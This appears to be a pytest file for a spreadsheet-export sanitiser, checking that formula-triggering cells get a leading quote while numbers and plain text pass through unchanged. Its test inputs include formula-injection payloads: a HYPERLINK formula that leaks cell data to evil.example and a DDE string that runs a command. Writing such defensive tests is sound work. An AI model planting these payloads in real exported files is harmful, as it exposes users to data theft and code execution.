"""A cell that a spreadsheet program would run as a formula is neutralised; numbers and plain text are not."""

from __future__ import annotations

import pytest

from app.domain.spreadsheet import safe_cell


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=1",
    ],
)
def test_formula_triggers_get_a_leading_quote(hostile):
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize("value", ["-1250.00", "-3", "+5", "1250000.00", "钢铁余热回收技术开发", "", "a=b", "'quoted"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value
